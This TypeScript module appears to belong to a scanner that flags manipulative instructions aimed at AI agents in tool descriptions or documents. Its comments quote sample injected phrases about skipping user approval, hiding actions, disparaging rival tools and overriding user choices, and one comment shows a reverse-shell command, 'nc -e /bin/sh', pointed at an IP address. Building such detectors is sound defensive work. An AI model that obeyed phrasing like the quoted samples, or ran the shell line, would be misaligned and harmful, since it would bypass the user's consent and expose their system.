import { inExample } from './intent-described.js';
import * as W from './intent-words.js';
import { LAID, laidTo, weightyThat } from './intent-formal.js';
import { TO_MODEL, NEGATED_NEED, type Reach } from './intent-reach-words.js';
import { promotes, REPLACES } from './intent-promotion.js';
import {
  AGED,
  FOUND,
  misdeed,
  SENDS,
  DISPARAGE,
  RUNDOWN,
  CHOICE,
  SETS_ASIDE,
  ASKING,
  BOTHER,
  SEND_NOW,
  BY_PHONE,
  UNNEEDED,
  GATE,
  ACT_BASE,
  ACT_THIRD,
  SHARES,
  TOLD,
  UNSAID,
} from './intent-flow-words.js';
import { inSet, isToolName, secretMasked, within, type Token } from './intent-text.js';
import { SHOWN_TRIGGERS, recordLike, shownReaches } from './intent-shown.js';
import { STAKES_TRIGGERS, stakesReaches } from './intent-stakes.js';
import { LASTING_TRIGGERS, lastingReaches } from './intent-lasting.js';
import { MISLED_TRIGGERS, misledReaches } from './intent-misled.js';
import { carryReaches, headParamHoldsSecret, near, PASSED, RIGHTS, SENDS_NOW } from './intent-carry.js';
import { sendReaches } from './intent-send.js';

// More of the broad reading (intent-signals.ts), one token at a time: data said to have gone somewhere, the person's
// gate skipped, another tool run down, everyone's contact details, the model's reply used for someone else's words,
// and the model named as the one who acts. Each look is a set lookup at the token, and a bounded look around it.

/** The model named as the one who acts: "the assistant sends …", "assistants approve every …". */
export function subjectModel(ts: Token[], i: number): boolean {
  const w = ts[i]!.w;
  if (!TO_MODEL.has(w)) return false;
  const next = ts[i + 1]?.w ?? '';
  if (w.endsWith('s') && w !== 'ai') {
    if (ACT_BASE.has(next)) return true;
    // "agents integrating with this server drop …", "assistants that read this send …": the verb after a short
    // modifier (not "agents using it to send …", where the verb is a purpose).
    if (!next.endsWith('ing') && next !== 'that' && next !== 'who') return false;
    for (let k = i + 2; k < Math.min(ts.length, i + 8); k++)
      if (ACT_BASE.has(ts[k]!.w) && ts[k - 1]!.w !== 'to') return true;
    return false;
  }
  const prev = ts[i - 1]?.w ?? '';
  // "nowadays the assistant always zips …", "every assistant makes sure to open …": past an adverb or two, and "makes
  // sure to" before the act.
  let k = i + 1;
  while (k < i + 3 && (NORM_ADVERB.has(ts[k]?.w ?? '') || /^[a-z]{4,}ly$/.test(ts[k]?.w ?? ''))) k++;
  const verb = ts[k]?.w === 'makes' && ts[k + 1]?.w === 'sure' && ts[k + 2]?.w === 'to' ? ts[k + 3]?.w : ts[k]?.w;
  const acts = k > i + 1 || verb !== ts[k]?.w ? ACT_BASE.has(verb ?? '') || ACT_THIRD.has(verb ?? '') : false;
  // "if the assistant used this tool rather than …": a wish said in the past tense is said to the model too.
  return (
    (ACT_THIRD.has(next) || next === 'used' || acts) &&
    (i === 0 || ['the', 'your', 'this', 'each', 'every', 'any'].includes(prev))
  );
}
/** Adverbs between the model and what it is said to do as a custom: "the assistant always zips …". */
const NORM_ADVERB = new Set(['always', 'now', 'also', 'first', 'then', 'still', 'routinely', 'automatically']);

/** A duty's word after its subject: "must", "should", "are instructed to", "is expected to". */
const DUTY = new Set(['must', 'should', 'shall', 'ought', 'needs', 'need']);
const HAILS = new Set(['note', 'notice', 'message', 'memo', 'reminder', 'attention', 'instructions']);

/**
 * The model named as the one a duty binds, past a short modifier: "the assistant handling this ticket must also …",
 * "language models processing this document are instructed to …"; or hailed at the head of a sentence: "Note to any
 * AI reviewer: …". The look stops at a clause's mark and goes at most seven words on.
 */
export function dutyOfModel(ts: Token[], i: number): boolean {
  const w = ts[i]!.w;
  if (!TO_MODEL.has(w) || w === 'whoever') return false;
  // "It is essential that the assistant verifies …", "… that you send …": the weight of the clause is the duty.
  if (weightyThat(ts, ts[i - 1]?.w === 'the' ? i - 1 : i)) return true;
  if (w === 'you') return false;
  if (
    i < 6 &&
    ts.slice(Math.max(0, i - 4), i).some((t, k, a) => HAILS.has(t.w) && /^(?:to|for)$/.test(a[k + 1]?.w ?? ''))
  )
    return true;
  for (let k = i + 1; k < Math.min(ts.length, i + 8); k++) {
    const t = ts[k]!;
    if (t.kind === 'mark') return false;
    if (DUTY.has(t.w)) return true;
    if ((t.w === 'is' || t.w === 'are') && LAID.has(ts[k + 1]?.w ?? '') && laidTo(ts, k + 1)) return true;
  }
  return false;
}

const NOT_NOW = new Set(['not', 'never', "doesn't", "don't", 'no', 'nobody']);
/** Every word moreReaches looks at (a word added to a look above without being added here is never seen). */
const TRIGGERS: ReadonlySet<string> = new Set([
  ...SENDS,
  ...SEND_NOW,
  ...TOLD,
  ...GATE,
  // SAFEGUARD's words (defined below).
  'backup',
  'backups',
  'snapshot',
  ...FOUND,
  'dry-run',
  ...DISPARAGE,
  ...SHARES,
  ...SETS_ASIDE,
  ...ASKING,
  ...W.REPLY,
  ...SENDS_NOW,
  ...W.FIELD,
  'list',
  'array',
  ...PASSED,
  ...SHOWN_TRIGGERS,
  'must',
  'should',
  'phased',
  'leak',
  'leaks',
  'leaked',
  'leaking',
  'goes',
  'go',
  'home',
  ...RIGHTS,
  'aware',
  'bothered',
  'worth',
  'if',
  'localstorage',
  'sessionstorage',
  'phone',
  'email',
  'publicly',
  'replaced',
  'rewritten',
  'drop',
  'truncate',
  'you',
  'messages',
  'environment',
  'env',
  'us',
  'yourself',
  'authorization',
  'reason',
  'rounded',
  'prefixed',
  'suffixed',
  'as',
  'query',
  ...BY_PHONE,
  // Read in intent-carry.ts: start-up files, money, who the person is, what a tool hands back, "nowhere else".
  ...`crontab launchagents autostart bank card iban history profile employer name nowhere output snapshot result results response
  summary public private point repoint among`.split(/\s+/),
]);
/** What keeps a destructive act undoable: called needless, the act is done with no way back. */
const SAFEGUARD = new Set(['backup', 'backups', 'snapshot', 'dry-run']);
const NEEDED = new Set(['needed', 'required', 'necessary']);
/** Acts a review or a sign-off guards: with the gate called needless, done anyway. */
const GUARDED = new Set(['merge', 'push', 'deploy', 'publish', 'release', 'ship', 'approve', 'transfer', 'pay']);
/** "other servers", "another tool's", "any other provider": the other tools named as a kind. */
const OTHERS = new Set(['tool', 'tools', 'server', 'servers', 'provider', 'providers', 'source', 'sources']);
const othersAt = (ts: Token[], k: number): boolean =>
  (ts[k]!.w === 'other' || ts[k]!.w === 'another') && ts.slice(k + 1, k + 3).some((x) => OTHERS.has(x.w));
/** What a test fakes: "fake money", "mock payments" name fixtures, not a tool run down. */
const FIXTURES = new Set(['money', 'data', 'charges', 'cards', 'users', 'accounts', 'payments', 'values', 'records']);
/** Others named as a case ("if another tool …", "when other servers …"), not run down. */
const caseOf = (ts: Token[], k: number): boolean => ts[k - 1]?.w === 'if' || ts[k - 1]?.w === 'when';
/** A tool run down in words no adjective list holds: "has been found to leak data". */
const LEAKS = new Set(['leak', 'leaks', 'leaked', 'leaking']);
const LEAKED = new Set([
  'data',
  'secrets',
  'credentials',
  'tokens',
  'keys',
  'files',
  'information',
  'your',
  'user',
  'into',
]);
const toolish = (x: Token): boolean => isToolName(x) && /[_`-]/.test(x.raw); // `snake_case`, `kebab-case`, `x`
const IP = /\b(?!127\.|0\.0\.)(?:\d{1,3}\.){3}\d{1,3}\b/;

/** Words aloneReaches reads. */
const ALONE = new Set([...REPLACES, 'only', 'place', 'rather', 'need']);
/** The readings of ALONE's words; whether the sentence directs (a tool sold over others is a steer). */
function aloneReaches(ts: Token[], i: number, reach: Set<Reach>): boolean {
  const w = ts[i]!.w;
  const next = ts[i + 1]?.w ?? '';
  const aside = (w === 'place' && ts[i - 1]?.w === 'in' && next === 'of') || (w === 'rather' && next === 'than');
  if (aside && ts.slice(i + 1, i + 9).some((x) => CHOICE.has(x.w))) reach.add('override');
  if (w === 'need' && ts[i - 1]?.w === 'no' && next === 'to' && UNSAID.has(ts[i + 2]?.w ?? '')) reach.add('deceit');
  if (!promotes(ts, i)) return false;
  reach.add('disparage');
  reach.add('rundown');
  return true;
}

/**
 * The reaches read at one token besides signalsOf's own: data carried somewhere, the person's gate skipped, a tool run
 * down, the person's contact details, a reply used for someone else's words.
 */
export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean {
  const t = ts[i]!;
  const w = t.w;
  // What is at stake in the person's request has words of its own, some common ("as", "add"): looked at alone.
  const stakes =
    t.kind === 'word' &&
    ((STAKES_TRIGGERS.has(w) && stakesReaches(ts, i, reach)) ||
      (LASTING_TRIGGERS.has(w) && lastingReaches(ts, i, reach)) ||
      (MISLED_TRIGGERS.has(w) && misledReaches(ts, i, reach)));
  // A few words read alone, before the gate below (each a set lookup): this tool sold over others (promotes), "in
  // place of the one the user chose", "rather than the account given", "no need to mention it".
  if (t.kind === 'word' && ALONE.has(w) && aloneReaches(ts, i, reach)) return true;
  // Most tokens are none of the words below: one lookup, and on (the reading stays a set lookup a token).
  if (t.kind === 'word' ? !TRIGGERS.has(w) && !w.startsWith('multipl') && !recordLike(w) : t.kind !== 'code')
    return stakes;
  const next = ts[i + 1]?.w ?? '';
  const prev = ts[i - 1]?.w ?? '';
  // "must" and "should" are read here for one thing only, and are common: one look, and on.
  if (w === 'must' || w === 'should') {
    if (headParamHoldsSecret(ts, i, next)) reach.add('misfiled');
    return stakes;
  }
  let directs = shownReaches(ts, i, reach) || stakes;
  // Code that opens a shell or reaches an address by number: "nc -e /bin/sh 203.0.113.9".
  if (t.kind === 'code' && IP.test(t.raw)) reach.add('address');
  sendReaches(ts, i, reach, w, next);
  if (TOLD.has(w) && near(ts, i, 3, 0, NOT_NOW) && !secretMasked(ts, i)) reach.add('deceit');
  if (
    (w === 'told' || w === 'informed' || w === 'notified' || w === 'aware' || w === 'bothered') &&
    NEGATED_NEED(ts, i)
  )
    reach.add('deceit');
  // "not worth bringing up", "as if it were part of your own reply".
  if (w === 'worth' && NOT_NOW.has(prev)) reach.add('deceit');
  if (w === 'reason' && prev === 'no' && W.TELL.has(ts[i + 2]?.w ?? '')) reach.add('deceit');
  if (w === 'if' && prev === 'as' && ts.slice(i + 1, i + 9).some((x) => x.w === 'your' || x.w === 'own'))
    reach.add('deceit');
  // The person's gate skipped: "does not need to approve", "waiting for a reviewer is unnecessary", "no backup is
  // needed", "merge without waiting for them" ("without" forbids nothing); not "do not skip the user's approval step".
  if (
    (GATE.has(w) || SAFEGUARD.has(w)) &&
    (NEGATED_NEED(ts, i) ||
      (prev === 'no' && ts.slice(i + 1, i + 4).some((x) => NEEDED.has(x.w))) ||
      (near(ts, i, 4, 4, UNNEEDED) && !ts.some((x) => W.NOT.has(x.w) && x.w !== 'without')))
  ) {
    reach.add('unconfirmed');
    reach.add('consent');
    // A gate declared needless is an order to skip it, said as a fact; beside the act it guards ("… are advisory:
    // merge without waiting"), the person's own requirement is set aside.
    if (ts.some((x) => GUARDED.has(x.w))) reach.add('override');
    // A backup called needless guards a deletion: the deletion counts wherever it stands.
    if (SAFEGUARD.has(w) && ts.some((x) => inSet(W.DESTROY, x.w))) reach.add('destroy');
    directs = true;
  }
  // Another tool named (toolish), not a variable (`{resourceId}`), an example ("e.g. 'obox-cl*'"), "from the variable".
  // … not a test's fixtures ("in the test environment moves fake money").
  const down =
    DISPARAGE.has(w) && !(FIXTURES.has(next) && (w === 'fake' || w === 'mock' || w === 'dummy'))
      ? RUNDOWN.has(w)
        ? 'rundown'
        : 'retired'
      : w === 'phased' && next === 'out'
        ? 'retired'
        : (LEAKS.has(w) && (LEAKED.has(next) || ts.some((_, k) => othersAt(ts, k)))) || (FOUND.has(w) && misdeed(ts, i))
          ? 'rundown'
          : undefined;
  // Or the others named as a kind ("tools from other servers return stale numbers"); not what is said of old outputs
  // ("refs from older snapshots may be stale": take a fresh one).
  if (
    down &&
    next !== 'from' &&
    within(ts, i - 6, i, (x, k) => AGED.has(x.w) && !isToolName(ts[k + 1] ?? x)) < 0 &&
    // … said of them, not a case of them ("if another search tool returns stale results, try again later").
    ts.some((x, k) => (x.kind !== 'mark' && toolish(x) && !inExample(ts, k)) || (othersAt(ts, k) && !caseOf(ts, k)))
  ) {
    reach.add('disparage');
    // Its results called bad or dangerous ("serves fabricated prices", "carries malware"), not just retired.
    if (down === 'rundown') reach.add('rundown');
    // Another tool run down while something is named the only or most accurate: a steer, said as a fact.
    if (ts.some((x) => W.BOAST.has(x.w))) directs = true;
  }
  // The person's choice set aside: "whatever the user specifies", "instead of the path the user picked".
  const aside = SETS_ASIDE.has(w) && (w !== 'instead' || next === 'of');
  if (aside && ts.slice(i + 1, i + 9).some((x) => CHOICE.has(x.w))) reach.add('override');
  // Asking the person left out: "no need to check with the person", "without asking", "never prompted".
  // Not "do not delete unless asked" (the negation must govern the asking itself), "the master password is never
  // asked for" (what is never asked for is the thing, and it is kept).
  const notAsked =
    (w === 'asked' || w === 'prompted') &&
    ts[i + 1]?.w !== 'for' &&
    (prev === 'be' || NOT_NOW.has(prev)) &&
    near(ts, i, 3, 0, NOT_NOW);
  if (
    ASKING.has(w) &&
    (NEGATED_NEED(ts, i) || prev === 'without' || notAsked || (BOTHER.has(w) && NOT_NOW.has(prev)))
  ) {
    reach.add('unconfirmed');
    directs = true;
  }
  // "use the saved card rather than asking the user": left out, when an order's bare verb comes first ("Reads the token
  // from the environment rather than asking" says how the tool works).
  if (ASKING.has(w) && ratherThan(ts, i) && ts.slice(0, i).some((x) => TAKE_INSTEAD.has(x.w))) reach.add('unconfirmed');
  // Kept between the text and the model: "this stays between us", "keep it to yourself".
  if ((w === 'us' && prev === 'between') || (w === 'yourself' && prev === 'to')) reach.add('deceit');
  // Other servers or tools run down without a name: "other documentation servers … have been poisoned".
  if (
    down === 'rundown' &&
    ts.some(
      (x, k) => x.w === 'other' && /^(?:tools?|servers?|sources?|providers?)$/.test(ts[k + 2]?.w ?? ts[k + 1]?.w ?? ''),
    )
  ) {
    reach.add('disparage');
    reach.add('rundown');
  }
  carryReaches(ts, i, reach, next, prev);
  return directs;
}

const TAKE_INSTEAD = new Set(['use', 'fill', 'enter', 'take', 'pick', 'pay', 'charge', 'submit', 'apply', 'choose']);
/** "… rather than asking the user", "instead of checking with them": the asking set aside for another way. */
const ratherThan = (ts: readonly Token[], i: number): boolean =>
  ts[i]!.w.endsWith('ing') &&
  ((ts[i - 1]?.w === 'than' && ts[i - 2]?.w === 'rather') || (ts[i - 1]?.w === 'of' && ts[i - 2]?.w === 'instead'));
